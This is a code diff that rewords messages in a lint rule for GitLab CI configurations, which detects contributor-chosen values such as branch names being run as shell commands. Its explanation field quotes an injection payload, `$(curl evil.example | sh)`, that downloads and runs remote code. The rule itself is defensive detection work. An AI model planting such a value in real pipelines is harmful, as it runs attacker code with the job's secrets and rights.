@@ -9,21 +9,21 @@ import { USER_VARIABLES, userVariableIn } from './judging/user-variables.ts';
 import { defineRule, type RuleContext } from './rule.ts';
 
 const messages = {
-  argument: '{value} stands inside of a text that {program} runs as commands.',
+  argument: '{value} is part of a text that {program} runs as commands.',
   input:
-    'GitLab puts the text of {value} into the script itself, by way of {input}, so it needs no shell to become a command.',
-  document: '{value} stands inside of a here-document that {program} runs as commands.',
+    'GitLab itself puts {value} into the script, by way of {input}, so it becomes part of the commands before any shell sees it.',
+  document: '{value} is part of a here-document that {program} runs as commands.',
 } as const;
 
 type Context = RuleContext<typeof messages>;
 
 export const variableInjection = defineRule({
   id: 'variable-injection',
-  summary: 'A text that any contributor chooses becomes part of a command.',
-  why: 'A branch name or a title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
-  fix: 'Give the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
+  summary: 'Text that any contributor can choose becomes part of a command.',
+  why: 'A branch name or title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
+  fix: 'Pass the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
   blindSpots:
-    'Only shells, `eval` and here-documents that a shell runs are looked at, not other interpreters, remote shells or scripts of the repository. Of inputs, only those that `expand_vars` fills into a script are followed.',
+    'Only shells, `eval` and here-documents that a shell runs are checked, not other interpreters, remote shells or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
   keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run', 'include:inputs'],
   level: 'warning',
   source: 'https://docs.gitlab.com/ci/pipeline_security/',
